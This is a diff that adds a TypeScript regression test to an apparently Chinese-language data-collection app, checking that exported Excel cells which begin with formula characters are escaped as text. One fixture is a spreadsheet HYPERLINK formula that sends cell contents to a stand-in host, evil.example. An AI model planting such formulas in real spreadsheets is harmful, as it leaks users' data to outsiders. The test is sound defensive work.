@@ -280,6 +280,29 @@ describe('data collection: the fill side', () => {
     expect([1, 2, 3].map((n) => (ws.getRow(n).values as unknown[]).slice(1))).toEqual([['填报部门', '项目', '人数'], ['信息工程学院', '男', '10'], ['信息工程学院', '女', '11']]);
   });
 
+  it('exports fill values and field labels that would start a formula as text behind a quote; a number stays as typed (issue 31 item 14)', async () => {
+    const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
+    const form = await makeForm('b公式文本', [field('note', '=备注', 'text'), field('score', '得分', 'float')]);
+    const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
+    const saved = await rwfzr.post(`${SJGL}/datas/updateOrInsert`, { fillTaskId: fillId, rows: FORMULAS.map((note, i) => ({ values: { note, score: String(-2 - i) } })) });
+    expect(saved.body.meta.success).toBe(true);
+    const exported = await rwfzr.get(`${SJGL}/datas/export?fillTaskId=${fillId}`).buffer(true).parse((res, cb) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () => cb(null, Buffer.concat(chunks)));
+    });
+    expect(exported.status).toBe(200);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(exported.body as ArrayBuffer);
+    const ws = book.worksheets[0]!;
+    const cells = [1, 2, 3, 4, 5].map((n) => (ws.getRow(n).values as unknown[]).slice(1));
+    expect(cells[0]).toEqual(["'=备注", '得分']);
+    expect(cells.slice(1).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
+    for (const text of cells.slice(1).map((r) => r[0] as string)) expect(text).not.toMatch(/^[=+\-@\t\r]/);
+    // a negative number is a number, not a formula: written as typed
+    expect(cells.slice(1).map((r) => r[1])).toEqual(['-2', '-3', '-4', '-5']);
+  });
+
   it('commits a 5,000-row floating form in one request (the bulk routes take bodies past the usual item limit)', async () => {
     const form = await makeForm('b五千行');
     const fillId = (await publishedTask(form.id, ['d-xxgc']))['d-xxgc']!;
